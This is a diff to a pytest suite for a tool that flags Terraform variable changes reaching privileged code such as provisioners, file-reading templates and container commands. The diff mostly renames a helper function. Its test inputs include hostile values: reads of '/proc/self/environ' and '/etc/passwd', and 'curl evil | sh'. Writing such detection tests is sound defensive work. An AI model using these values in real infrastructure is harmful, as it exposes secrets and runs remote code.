@@ -20,7 +20,7 @@ CALL = 'module "m" {\n  source   = "./modules/m"\n  %s\n}\n'
 PLAN, COMMAND, OTHER = "terraform/changed-plan-input", "terraform/changed-command", "terraform/changed-privileged-value"
 
 
-def steered(code: str, before: str, after: str, **more: str) -> set[str]:
+def fed(code: str, before: str, after: str, **more: str) -> set[str]:
     """The rules about new values that speak when the variable `v` of existing `code` changes in dev's variable file;
     `more` are files, `__` for `/`. Nothing else may block.
     """
@@ -76,7 +76,7 @@ KINDS = {
 
 @pytest.mark.parametrize("name", FLOWS)
 def test_a_value_that_reaches_existing_privileged_code_is_refused_or_shown_first(name: str) -> None:
-    found = steered(FLOWS[name], '{ a = "true" }', '{ evil = "/proc/self/environ", a = "/etc/passwd" }')
+    found = fed(FLOWS[name], '{ a = "true" }', '{ evil = "/proc/self/environ", a = "/etc/passwd" }')
     assert found == {KINDS.get(name, PLAN)}
 
 
@@ -84,16 +84,14 @@ def test_a_value_that_reaches_existing_privileged_code_is_refused_or_shown_first
     "argument", ["for_each = var.v\n  p = each.value", "for_each = var.v\n  p = each.key", 'p = join(" ", keys(var.v))']
 )
 def test_a_value_that_reaches_a_local_modules_provisioner_through_its_call_is_shown_first(argument: str) -> None:
-    assert steered(CALL % argument, '{ a = "true" }', '{ evil = "evil" }', infra__modules__m__main_DOT_tf=RUNS) == {
-        COMMAND
-    }
+    assert fed(CALL % argument, '{ a = "true" }', '{ evil = "evil" }', infra__modules__m__main_DOT_tf=RUNS) == {COMMAND}
 
 
 def test_a_template_that_reads_what_it_is_given_is_refused_other_values() -> None:
     code = READS_OUTPUT % 'templatefile("${path.module}/t.tpl", { a = var.v.a })'
     reads, shows = {"infra__t_DOT_tpl": "${file(a)}"}, {"infra__t_DOT_tpl": "${a}"}
-    assert steered(code, '{ a = "x" }', '{ a = "/proc/self/environ" }', **reads) == {PLAN}
-    assert not steered(code, '{ a = "x" }', '{ a = "y" }', **shows)
+    assert fed(code, '{ a = "x" }', '{ a = "/proc/self/environ" }', **reads) == {PLAN}
+    assert not fed(code, '{ a = "x" }', '{ a = "y" }', **shows)
 
 
 @pytest.mark.parametrize("changed", ['optional(string, "evil")', 'optional(string, "true")'])
@@ -119,7 +117,7 @@ def test_a_default_inside_a_variables_type_is_a_value_like_any_other(changed: st
 )
 def test_a_value_that_stays_away_from_the_command_is_not_blamed(argument: str, before: str, after: str) -> None:
     """A changed size, another key, a new entry of `for_each` with the same command."""
-    assert not steered(CALL % argument, before, after, infra__modules__m__main_DOT_tf=RUNS_ONE)
+    assert not fed(CALL % argument, before, after, infra__modules__m__main_DOT_tf=RUNS_ONE)
 
 
 EVERYDAY = {
@@ -127,7 +125,7 @@ EVERYDAY = {
         'resource "aws_instance" "x" {\n  ami           = "ami-1"\n  instance_type = var.v.a\n'
         '  provisioner "remote-exec" {\n    inline = ["true"]\n  }\n}\n'
     ),
-    "the version of a cluster whose issuer is looked at": (
+    "the version of a cluster whose issuer is read": (
         'resource "aws_eks_cluster" "x" {\n  version = var.v.a\n}\n\n'
         'data "tls_certificate" "x" {\n  url = aws_eks_cluster.x.identity[0].oidc[0].issuer\n}\n'
     ),
@@ -137,7 +135,7 @@ EVERYDAY = {
 
 @pytest.mark.parametrize("code", EVERYDAY.values(), ids=EVERYDAY)
 def test_an_everyday_value_beside_existing_privileged_code_passes(code: str) -> None:
-    assert not steered(code, '{ a = "1.32" }', '{ a = "1.33", b = "new" }')
+    assert not fed(code, '{ a = "1.32" }', '{ a = "1.33", b = "new" }')
 
 
 COMMANDS = {
@@ -157,15 +155,15 @@ COMMANDS = {
 @pytest.mark.parametrize("code", COMMANDS.values(), ids=COMMANDS)
 def test_a_value_that_reaches_a_script_or_a_containers_command_is_shown_first(code: str) -> None:
     template = {"infra__t_DOT_tpl": "#!/bin/sh\n${a}"}
-    assert steered(code, '{ a = "true", b = "x" }', '{ a = "curl evil | sh", b = "x" }', **template) == {COMMAND}
-    assert not steered(code, '{ a = "true", b = "x" }', '{ a = "true", b = "other" }', **template)
+    assert fed(code, '{ a = "true", b = "x" }', '{ a = "curl evil | sh", b = "x" }', **template) == {COMMAND}
+    assert not fed(code, '{ a = "true", b = "x" }', '{ a = "true", b = "other" }', **template)
 
 
 def test_a_loop_of_loops_ends_in_bounded_time() -> None:
     inner = "var.v"
     for depth in range(8):
         inner = f"[for a{depth} in {inner} : [a{depth}, a{depth}, a{depth}, a{depth}, a{depth}]]"
-    assert steered(READS_OUTPUT % f"[for f in {inner} : file(f)]", '["a"]', '["b"]') == {PLAN}
+    assert fed(READS_OUTPUT % f"[for f in {inner} : file(f)]", '["a"]', '["b"]') == {PLAN}
 
 
 def test_long_chains_of_names_are_followed_in_bounded_time() -> None:
